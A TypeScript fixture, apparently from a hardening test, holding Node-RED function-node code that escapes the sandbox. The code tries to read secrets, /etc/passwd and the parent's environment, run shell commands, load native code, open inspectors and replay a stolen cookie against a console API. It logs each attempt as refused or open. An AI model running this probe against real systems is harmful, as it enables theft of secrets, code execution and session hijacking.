/** What the attack is told; the function node gets it as the body of its request. */
export interface AttackPlan {
  readonly dataFolder: string;
  readonly repository: string;
  readonly console: string;
  /** The cookie that the attacker has from Node-RED’s door. */
  readonly flowsCookie: string;
  /** Names under which the console’s cookie might be accepted. */
  readonly consoleCookie: string;
}

/**
 * The text of a function node. It leaves Node-RED’s sandbox (that has always been easy) and tries everything
 * that the process must not do; its answer is a list of `[attempt, what came of it]`, where `open` is a
 * success of the attack.
 */
export const attack = `
const outside = Buffer.constructor('return process')();
const plan = msg.payload;
const results = [];
const attempt = async (name, work) => {
  try {
    const found = await work();
    results.push([name, found === 'refused' ? 'refused' : 'open: ' + String(found).slice(0, 80)]);
  } catch (error) {
    results.push([name, 'refused ' + (error && (error.code || error.message))]);
  }
};
const builtin = (name) => outside.getBuiltinModule(name);
const fs = builtin('node:fs');
const http = builtin('node:http');
const load = builtin('node:module').createRequire(plan.repository + '/flows/src/x.js');
const dynamicImport = Buffer.constructor('p', 'return import(p, { with: { type: "json" } })');
const within = (path) => plan.dataFolder + '/' + path;

for (const path of ['secrets.json', 'run/alerting.json', 'run/broker.json', 'run/edge.json', 'run/ended-sessions.json'])
  await attempt('read ' + path, () => fs.readFileSync(within(path), 'utf8'));
await attempt('list the data folder', () => fs.readdirSync(plan.dataFolder).join());
await attempt('list the store', () => fs.readdirSync(within('store')).join());
await attempt('read through a handle', async () => (await fs.promises.open(within('secrets.json'))).fd);
await attempt('read by a way back', () => fs.readFileSync(within('flows/../secrets.json'), 'utf8'));
await attempt('read the outbox', () => fs.readdirSync(within('edge')).join());
await attempt('read /etc/passwd', () => fs.readFileSync('/etc/passwd', 'utf8'));
await attempt('read the parent’s environment', () => fs.readFileSync('/proc/' + outside.ppid + '/environ', 'utf8'));
await attempt('read the own memory', () => fs.openSync('/proc/self/mem', 'r+'));
await attempt('require secrets', () => JSON.stringify(load(within('secrets.json'))));
await attempt('import secrets', async () => JSON.stringify(await dynamicImport('file://' + within('secrets.json'))));
await attempt('load as environment', () => outside.loadEnvFile(within('secrets.json')) || 'loaded');
await attempt('write secrets', () => fs.writeFileSync(within('secrets.json'), '{}') || 'written');
await attempt('write code', () => fs.writeFileSync(plan.repository + '/flows/nodes/watchpost-alert-in.js', '') || 'written');
await attempt('link out', () => {
  fs.symlinkSync(within('secrets.json'), within('flows/link'));
  return fs.readFileSync(within('flows/link'), 'utf8');
});
await attempt('hard link out', () => {
  fs.linkSync(within('secrets.json'), within('flows/hard'));
  return fs.readFileSync(within('flows/hard'), 'utf8');
});
await attempt('copy out', () => fs.copyFileSync(within('secrets.json'), within('flows/copy')) || 'copied');
await attempt('blob', async () => (await (await fs.openAsBlob(within('secrets.json'))).text()).length);
await attempt('sqlite', () => {
  const sqlite = builtin('node:sqlite') || load('node:sqlite');
  return new sqlite.DatabaseSync(within('edge/outbox.sqlite')).prepare('select count(*) from sqlite_master').get();
});
await attempt('child process', () => builtin('node:child_process').execSync('id').toString());
await attempt('fork', () => builtin('node:child_process').fork(plan.repository + '/flows/src/main.ts').pid);
await attempt('worker', () => new (builtin('node:worker_threads').Worker)('1', { eval: true }).threadId);
await attempt('become a shell', () => {
  if (typeof outside.execve !== 'function') return 'refused';
  outside.execve('/bin/sh', ['sh', '-c', 'true']);
});
await attempt('native code', () => {
  if (typeof outside.dlopen !== 'function') return 'refused';
  return outside.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6');
});
await attempt('binding', () => (typeof outside.binding === 'function' ? outside.binding('spawn_sync') : 'refused'));
await attempt('signal the starter', () => (outside.kill || outside._kill) ? 'kill is there' : 'refused');
await attempt('open the starter’s inspector', () => outside._debugProcess ? outside._debugProcess(outside.ppid) || 'sent' : 'refused');
await attempt('own inspector', () => builtin('node:inspector').open(0) || 'opened');
await attempt('report', () => outside.report.writeReport('x.json'));
await attempt('speak as the service', () => (outside.send ? outside.send({ ready: false }) : 'refused'));
await attempt('permission to be given', () => (outside.permission.has('fs.read') ? 'has' : 'refused'));

const ask = (path, headers, method = 'GET', body) =>
  new Promise((resolve, reject) => {
    const request = http.request(plan.console + path, { method, headers }, (answer) => {
      answer.resume();
      resolve(answer.statusCode);
    });
    request.on('error', reject);
    request.end(body);
  });
const refusedWith = async (promise) => {
  const status = await promise;
  return status === 401 || status === 403 ? 'refused' : status;
};
for (const path of ['/api/v1/alerts', '/api/v1/rejects', '/api/v1/session', '/metrics', '/api/v1/stream', '/flows/enter?state=0123456789abcdef']) {
  await attempt('console without cookie ' + path, () => refusedWith(ask(path, {})));
  await attempt('console with the door’s cookie ' + path, () => refusedWith(ask(path, { cookie: plan.flowsCookie })));
  await attempt('console with the door’s token renamed ' + path, () => refusedWith(ask(path, { cookie: plan.consoleCookie })));
}
await attempt('a step as somebody', () =>
  refusedWith(ask('/api/v1/alerts/00000000-0000-4000-8000-000000000000/transitions', { 'content-type': 'application/json', cookie: plan.flowsCookie }, 'POST', '{}')));
for (const port of [9229, 9230])
  await attempt('inspector at ' + port, () => new Promise((resolve, reject) => {
    http.get({ port, path: '/json' }, (answer) => resolve(answer.statusCode)).on('error', reject);
  }));

msg.payload = {
  results,
  environment: outside.env,
  seen: { headers: msg.req.headers, raw: msg.req.rawHeaders, cookies: msg.req.cookies },
};
return msg;
`;
